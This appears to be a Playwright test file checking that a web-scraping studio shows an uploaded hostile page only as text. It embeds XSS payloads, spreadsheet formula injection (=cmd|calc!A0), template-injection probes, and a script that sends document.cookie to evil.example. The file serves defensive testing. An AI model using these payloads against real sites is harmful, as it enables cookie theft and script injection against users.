"""Hostile pages on every screen: nothing of them runs, all of it is shown as text, and nothing leaves the server."""

from pathlib import Path

import pytest
from playwright.sync_api import Page, expect

from ..server._running import Running
from ._steps import choose, click_text, go, name_field

pytestmark = pytest.mark.slow

RUN = "window.harmed=1;fetch('https://evil.example/'+document.cookie)"
SCRIPT = f"<script>{RUN}</script>"
ROW = """<tr><td title="RUN">&lt;img src=x onerror={0}&gt;<td>{1}<td><a href="javascript:RUN">go {0}</a></tr>"""
ITEM = """<li><a href="data:text/html,SCRIPT">&#x202e;name {0}</a> ${{7*7}} <b>{0} €</b></li>"""
ROWS = "".join(ROW.format(*row) for row in (("=cmd|calc!A0", 1), ("+1+1", 2), ("@SUM(A1)", 3), ("{{7*7}}", 4)))
ITEMS = "".join(ITEM.format(number) for number in range(5))
HOSTILE = f"""<!doctype html><html lang=en><head>
<title>&lt;img src=x onerror="RUN"&gt; </title><style>body{{background:url(https://evil.example/css)}}
@import 'https://evil.example/import.css';</style><base href="https://evil.example/">
<meta http-equiv=refresh content="0;url=https://evil.example/"><link rel=stylesheet href="https://evil.example/x.css">
</head><body onload="RUN"><h1>Prices SCRIPT</h1>
<svg onload="RUN" width=20 height=20>SCRIPT<a xlink:href="javascript:RUN"><text>svg</text></a></svg>
<iframe srcdoc="<script>parent.harmed=1</script>"></iframe>
<table><caption>&lt;/script&gt;&lt;script&gt;RUN&lt;/script&gt;</caption>
<tr><th>&lt;b onmouseover="RUN"&gt;Name&lt;/b&gt;<th>Price<th>Link</tr>{ROWS}</table>
<ul>{ITEMS}</ul></body></html>""".replace("SCRIPT", SCRIPT).replace("RUN", RUN)
NAME = "<img src=x onerror=window.harmed=1>.html"


@pytest.fixture
def hostile(page: Page, tmp_path: Path) -> str:
    """The page, uploaded under a name that is markup itself; its id."""
    path = tmp_path / NAME
    path.write_text(HOSTILE)
    page.get_by_label("Files to open").set_input_files(path)
    page.wait_for_url("**/pages/**")
    return page.url.split("/pages/")[1].split("/")[0]


def _unharmed(page: Page) -> None:
    assert page.evaluate("() => window.harmed") is None
    assert page.locator("main img[src='x'], main iframe, main script, main a[href^='javascript:']").count() == 0


def test_nothing_of_a_hostile_page_runs_on_any_screen(page: Page, hostile: str, studio: Running) -> None:
    """Open, teach, lab, induce and check show its texts; the fixture fails if anything asks another origin."""
    page.on("dialog", lambda _: pytest.fail("a dialog was opened"))
    expect(page.get_by_text("<img src=x onerror=", exact=False).first).to_be_visible()
    _unharmed(page)
    choose(page, "</script><script>")
    expect(page.get_by_role("gridcell", name="<img src=x onerror==cmd|calc!A0>")).to_be_visible()
    page.locator("#cell-0-0").click()
    _unharmed(page)
    page.goto(f"{studio.url}/lab/{hostile}?method=tables")
    expect(page.get_by_role("button", name="found")).to_be_visible()
    _unharmed(page)
    go(page, "Teach")
    page.get_by_role("button", name="<img src=x", exact=False).first.click()
    click_text(page, "go +1+1")
    name_field(page, "<b onclick=harmed()>")
    _unharmed(page)
    page.get_by_role("button", name="Save wrapper").click()
    page.wait_for_url("**/check?wrapper=**")
    page.get_by_role("checkbox").first.check()
    page.get_by_role("button", name="Run over 1 page").click()
    page.wait_for_url("**/runs/**")
    expect(page.get_by_role("gridcell").first).to_be_visible()
    _unharmed(page)
    go(page, "Open")
    expect(page.get_by_text("<img src=x onerror=", exact=False).first).to_be_visible()
    page.keyboard.press("Control+k")
    page.keyboard.type("img")
    expect(page.get_by_role("option").first).to_be_visible()
    _unharmed(page)


def test_an_exported_file_is_no_formula_and_no_page(hostile: str, studio: Running) -> None:
    """Cells that a spreadsheet would run are text; a file is sent as a file, never shown."""
    key = next(one["key"] for one in studio.get(f"/pages/{hostile}/results")["results"] if one["kind"] == "table")
    answer = studio.client.get(f"/api/pages/{hostile}/results/{key}/export?format=html")
    assert answer.headers["content-disposition"].startswith("attachment")
    assert "<script" not in answer.text.lower()
    assert "sandbox" in answer.headers.get("content-security-policy", "") or "default-src 'none'" in answer.headers.get(
        "content-security-policy", ""
    )
